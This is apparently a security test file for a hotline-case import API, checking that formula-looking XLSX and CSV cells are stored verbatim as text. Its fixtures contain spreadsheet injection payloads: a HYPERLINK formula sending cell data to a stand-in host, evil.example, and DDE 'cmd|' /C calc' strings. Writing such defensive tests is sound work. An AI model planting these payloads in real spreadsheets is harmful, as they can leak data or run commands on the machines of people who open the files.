import ExcelJS from 'exceljs';
import { DataSource } from 'typeorm';
import type { HotlineImportResult } from '@gridops/contracts';
import { startTestApp, type TestApp } from '../support/test-app';
import { sampleInteriorPoint } from '../support/fixtures';
import { postMultipart } from '../support/uploads';

const HEADERS = ['工单号', '诉求内容', '地址', '坐标', '分类', '来电时间', '联系人', '联系电话'];

/**
 * Issue #13 item 10 (import half) — what a 12345 file says is kept as inert text: a cell that looks like a formula is
 * stored as the text it is, and an XLSX formula cell as the text of its formula — never as the result the file claims
 * it computed (a cached result is whatever the file's author wrote, e.g. a harmless word in front of
 * `=HYPERLINK("http://evil…")`), never dropped. Exports neutralise such text (spreadsheet-cells.spec.ts).
 */
describe('security: formula-looking cells in a 12345 import', () => {
  let t: TestApp;
  let ds: DataSource;
  let operator: string;

  beforeAll(async () => {
    t = await startTestApp();
    ds = t.app.get(DataSource);
    operator = await t.login('operator');
  });
  afterAll(() => t.close());

  const at = (cell: string) => {
    const p = sampleInteriorPoint(cell);
    return `${p.lng},${p.lat}`;
  };
  const importFile = (data: Buffer, name: string, type: string) =>
    postMultipart<HotlineImportResult>(t, '/api/v1/hotline-imports', operator, [{ name: 'file', filename: name, contentType: type, data }]);
  const stored = async (caseId: string) =>
    ((await ds.query(`SELECT description, address, reporter_name FROM cases WHERE id = $1`, [caseId])) as { description: string; address: string | null; reporter_name: string | null }[])[0];

  it('stores an XLSX formula cell as the text of its formula, not its cached result', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('工单');
    sheet.addRow(HEADERS);
    sheet.addRow([
      '2026120200001',
      { formula: 'HYPERLINK("http://evil.example/x?"&A2,"点击查看详情")', result: '井盖缺失' },
      { formula: '"新城路"&"1号"', result: '新城路1号' },
      at('xincheng-01'),
      '井盖破损',
      '',
      { formula: 'cmd|\' /C calc\'!A0' },
      '',
    ]);
    const res = await importFile(Buffer.from(await workbook.xlsx.writeBuffer()), '12345.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.status).toBe(201);
    expect(res.body.rows[0]).toMatchObject({ status: 'created' });
    const c = await stored(res.body.rows[0].caseId!);
    expect(c.description).toBe('【12345工单 2026120200001】=HYPERLINK("http://evil.example/x?"&A2,"点击查看详情")');
    expect(c.address).toBe('="新城路"&"1号"');
    expect(c.reporter_name).toBe("=cmd|' /C calc'!A0");
  });

  it('stores CSV cells that look like formulas verbatim, as text', async () => {
    const cells = ['=1+1', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3'];
    const csvCell = (v: string) => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
    const rows = cells.map((v, i) => [`20261202000${10 + i}`, v, v, at('xincheng-02'), '暴露垃圾', '', '', '']);
    const csv = Buffer.from([HEADERS, ...rows].map((r) => r.map(csvCell).join(',')).join('\r\n'));
    const res = await importFile(csv, '12345.csv', 'text/csv');
    expect(res.status).toBe(201);
    expect(res.body.counts.created).toBe(cells.length);
    for (const [i, v] of cells.entries()) {
      const c = await stored(res.body.rows[i].caseId!);
      expect(c.description).toBe(`【12345工单 20261202000${10 + i}】${v}`);
      expect(c.address).toBe(v);
    }
  });
});
